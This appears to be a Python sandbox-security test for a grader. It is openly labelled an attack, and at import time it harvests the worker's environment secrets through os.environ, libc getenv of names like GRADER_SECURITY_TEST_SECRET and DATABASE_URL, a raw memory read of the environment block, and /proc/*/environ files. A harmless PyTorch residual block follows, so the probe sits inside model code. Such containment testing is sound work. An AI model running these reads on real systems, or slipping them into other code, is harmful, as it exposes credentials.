"""Attack: read the environment the worker runs with (where its secrets live): os.environ, the C
environment, /proc/self/environ and /proc/1/environ, and the initial environment block straight
from its own memory (which clearing os.environ alone does not wipe). Prints what it sees; contained
when all of it is empty or unreadable."""

import os
import sys

import torch
from torch import nn


def attempt(label, fn):
    """One probe: prints LEAK when it got what it must not, BLOCKED when the sandbox refused."""
    try:
        got = fn()
    except BaseException as exc:  # noqa: BLE001
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:100]}")
        return None
    print(f"LEAK {label}: {str(got)[:200]!r}")
    return got

import ctypes

print("SEEN os.environ:", dict(os.environ))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
for name in ("PATH", "HOME", "GRADER_SECURITY_TEST_SECRET", "GRADER_PROJECT_ROOT", "DATABASE_URL"):
    print(f"SEEN getenv({name}):", libc.getenv(name.encode()))
fields = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
start, end = int(fields[47]), int(fields[48])  # where the exec'd environment block sits in our memory
if 0 < start < end:
    block = ctypes.string_at(start, end - start).replace(b"\0", b" ").strip().decode(errors="replace")
    print("SEEN environment block in memory:", repr(block[:300]))
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
    try:
        raw = open(path, "rb").read()
    except OSError as exc:
        print(f"SEEN {path}: denied ({exc.strerror})")
    else:
        print(f"SEEN {path}:", raw.replace(b"\0", b" ").strip().decode(errors="replace")[:300])


class IdentityBlock(nn.Module):
    def __init__(self, channels: int, kernel_size: int = 3):
        super().__init__()
        pad = kernel_size // 2
        self.conv1 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn1 = nn.BatchNorm2d(channels)
        self.conv2 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn2 = nn.BatchNorm2d(channels)

    def forward(self, x):
        out = torch.relu(self.bn1(self.conv1(x)))
        return torch.relu(self.bn2(self.conv2(out)) + x)
